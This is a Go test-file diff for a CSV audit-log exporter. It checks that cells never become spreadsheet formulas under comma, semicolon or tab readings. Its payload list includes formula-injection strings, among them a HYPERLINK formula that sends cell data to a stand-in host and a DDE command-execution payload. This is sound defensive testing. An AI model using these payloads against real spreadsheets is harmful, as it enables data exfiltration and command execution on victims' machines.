@@ -4,6 +4,8 @@ import (
 	"bytes"
 	"encoding/csv"
 	"fmt"
+	"io"
+	"slices"
 	"strings"
 	"testing"
 	"unicode/utf8"
@@ -204,4 +206,75 @@ func ExampleFormat_Write() {
 	// 1 <nil>
 	// Timestamp,Object Type,Auditable ID,Action,Changes,Performed By,IP Address
 	// 2026-11-22T22:41:07.123456Z,API Key,42,update,name: ci -> deploy,dana@acme.test,203.0.113.24
+}
+
+// separated are texts that a program takes for several cells if it takes
+// another separator than the file's, each with one that would be a formula.
+var separated = []string{
+	"x;=1+1", "x;+1+1", "x;-1+1", "x;@SUM(A1)", "x,=1+1", "x, =1+1", "x; =1+1", "x;\u00a0=1+1", "x;\u200b=1+1", "x;＝1+1", ";=1+1", ",=1+1", ";;=1+1", ",;,=1+1",
+	`x;"=1+1`, `x;""=1+1`, `x;"""=1+1"`, `"x;=1+1`, `";=1+1;"`, `x";=1+1`, `x,"=1+1"`, `x;=HYPERLINK("http://evil.test/?x="&A1;"click")`, `x;=cmd|' /C calc'!A0`,
+	"a;b;=1+1;c", "a;-5;=1", "1;=2", "x\t=1+1", "x;\t=1+1", "x;\r\n=1+1", "x;-5-5", "'x;=1+1", "x;= 1", `x;" "=1+1`, "=1;=1", "=1,=1", "x;\ufeff=1", "x;\u3000=1",
+}
+
+// Whichever separator a program takes for the file's, and whether or not it
+// heeds quotes, no cell is a formula.
+func TestCSVInAnotherReading(t *testing.T) {
+	t.Parallel()
+	var entries []audit.Entry
+	for i, payload := range append(slices.Clone(separated), hostile...) {
+		e := entry(i)
+		e.Object = audit.Object{Type: payload, ID: payload}
+		e.Action, e.Actor.Email = audit.Action(payload), payload
+		e.Changes = audit.Changes{{Field: payload, Old: text(payload), New: text(payload + "!")}, {Field: "=1", New: text("2")}}
+		if i%2 == 0 {
+			e.Changes, e.Comment = nil, payload
+		}
+		entries = append(entries, e)
+	}
+	for _, written := range []rune{',', ';', '\t'} {
+		content := strings.TrimPrefix(writeCSV(t, export.Report{Separator: written}, entries...), "\ufeff")
+		reader := csv.NewReader(strings.NewReader(content))
+		reader.Comma = written
+		rows, err := reader.ReadAll()
+		require.NoError(t, err)
+		require.Len(t, rows, len(entries)+1)
+		for _, row := range rows {
+			assert.Len(t, row, 7)
+		}
+		for _, read := range []string{",", ";", "\t", ",;", ";\t", ",\t", ",;\t"} {
+			if strings.ContainsRune(read, written) {
+				continue // in that reading, quotes keep a cell together
+			}
+			for line := range strings.SplitSeq(content, "\r\n") {
+				for _, cell := range strings.FieldsFunc(line, func(r rune) bool { return strings.ContainsRune(read, r) }) {
+					assert.False(t, isFormula(strings.TrimLeft(cell, `"`)), "written with %q, read with %q: %q", written, read, cell)
+				}
+			}
+		}
+		// Those that take several separators at once do heed quotes.
+		for _, row := range rows {
+			for _, cell := range row {
+				assert.False(t, isFormula(cell), "%q", cell)
+				if strings.ContainsAny(cell, `"`+string(written)) {
+					continue // is in quotes
+				}
+				for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(",;\t", r) }) {
+					assert.False(t, isFormula(part), "written with %q: %q", written, cell)
+				}
+			}
+		}
+	}
+}
+
+func TestCSVSeparators(t *testing.T) {
+	t.Parallel()
+	e := entry(0)
+	e.Changes = audit.Changes{{Field: "a", New: text("1;2")}}
+	e.Action = audit.Create
+	assert.Contains(t, writeCSV(t, export.Report{Separator: ';'}, e), "API Key;42;create;\"a: 1;2\";dana@acme.test;")
+	assert.Contains(t, writeCSV(t, export.Report{Separator: '\t'}, e), "API Key\t42\tcreate\ta: 1;2\tdana@acme.test\t")
+	e.Object.ID = "1;-5"
+	assert.Contains(t, writeCSV(t, export.Report{}, e), `,1;-5,`, "numbers stay numbers")
+	_, err := export.CSV.Write(io.Discard, all(), export.Report{Separator: '|'})
+	assert.ErrorContains(t, err, `export: Report.Separator '|': give a comma, a semicolon or a tab`)
 }
